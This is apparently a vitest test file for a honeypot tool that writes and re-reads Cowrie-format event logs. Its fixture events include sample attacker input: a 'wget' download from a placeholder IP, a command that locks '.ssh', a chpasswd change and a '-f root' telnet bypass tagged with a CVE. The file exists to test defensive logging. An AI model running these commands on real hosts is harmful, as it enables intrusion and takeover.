import { expect, it } from 'vitest';
import type { Body, Event } from '../../model/event.ts';
import { cowrie } from '../readers/cowrie.ts';
import { createCowrieWriter } from './cowrie.ts';
import { cowrieIds } from './cowrie-ids.ts';

const sha256 = 'ab'.repeat(32);
const bodies: Body[] = [
  { kind: 'connect' },
  { kind: 'fingerprint', method: 'ssh-version', value: 'SSH-2.0-Go' },
  { kind: 'fingerprint', method: 'hassh', value: '0a07365cc01f', software: 'a,b;c;d;none' },
  { kind: 'fingerprint', method: 'ssh-key', value: 'SHA256:x' },
  { kind: 'fingerprint', method: 'ssh-pty', value: 'xterm 80x24' },
  { kind: 'fingerprint', method: 'environment', value: 'LANG=C=D' },
  { kind: 'fingerprint', method: 'ja4', value: 'no word for it' },
  { kind: 'login', user: 'root', secret: '\u001b[2J"\\', ok: false },
  { kind: 'login', user: 'root', secret: 'SHA256:y', ok: false, method: 'publickey' },
  { kind: 'login', user: 'root', secret: 'x', ok: true },
  { kind: 'command', input: 'uname -a; wget http://203.0.113.66/x', ok: true },
  { kind: 'command', input: 'lockr -ia .ssh', ok: false },
  { kind: 'command', input: 'typed into cat', detail: { stdin: true } },
  { kind: 'command', input: 'chpasswd', detail: { user: 'root', secret: 'new' } },
  { kind: 'command', input: '-f root', ok: true, detail: { exploit: 'CVE-2026-24061' } },
  { kind: 'download', url: 'http://203.0.113.66/x' },
  { kind: 'download', url: 'http://203.0.113.66/y', name: '/tmp/y', detail: { sha256 } },
  { kind: 'upload', sha256, size: 4, name: 'setup.sh' },
  { kind: 'forward', host: 'ip-who.com', port: 80 },
  { kind: 'data', size: 3, raw: 'abc', detail: { malformed: true } },
  { kind: 'data', size: 3, raw: 'abc' },
  { kind: 'flow', action: 'accept', packets: 1, size: 1 },
  { kind: 'close', durationMs: 1_234 },
];
const events = bodies.map(
  (body, n): Event =>
    ({
      id: `01977420-dc0a-8000-8000-${String(n).padStart(12, '0')}`,
      time: Date.UTC(2026, 0, 5) + n,
      arrived: Date.UTC(2026, 0, 5) + n,
      sensor: 'north',
      session: 'c0ffee',
      protocol: 'telnet',
      transport: 'tcp',
      src: { ip: '203.0.113.9', port: 4_000 },
      dst: { ip: '192.0.2.10', port: 2_323 },
      handshake: 'established',
      decoy: true,
      ...body,
    }) as Event,
);
const lines = () => events.flatMap(createCowrieWriter());

it('knows the 48 ids that there are, and writes no other', () => {
  expect(cowrieIds.size).toBe(48);
  const written = lines().map(({ eventid }) => String(eventid));
  expect(written.filter((id) => !cowrieIds.has(id))).toEqual([]);
  expect(new Set(written).size).toBe(19);
  expect(written.some((id) => id.includes('ja4'))).toBe(false);
});

it('is read back as the same logins, commands, downloads and the rest', () => {
  const read = cowrie.start({ source: 'x', now: () => 0 });
  const back = lines().flatMap((line) => read(JSON.stringify(line)) ?? []);
  const plain = ({ kind, ...rest }: Partial<Event> & Record<string, unknown>) =>
    [
      kind,
      ...['time', 'session', 'sensor', 'src', 'protocol', 'user', 'secret', 'ok', 'input', 'url', 'host']
        .filter((name) => name !== 'ok' || kind === 'login')
        .map((name) => rest[name]),
      kind === 'upload' || kind === 'download' ? (rest.name ?? '') : '',
      kind === 'close' ? rest.durationMs : '',
    ] as const;
  const told = events.filter((event) => createCowrieWriter()(event).length > 0);
  expect(back.map((one) => plain(one as never))).toEqual(
    told.map((one) =>
      plain(
        // What was not fetched has no name there.
        (one.kind === 'download' && one.detail === undefined ? { ...one, name: '' } : one) as never,
      ),
    ),
  );
});

it('says nothing for protocols that Cowrie does not speak', () => {
  expect(events.map((event) => ({ ...event, protocol: 'redis' })).flatMap(createCowrieWriter())).toEqual([]);
});
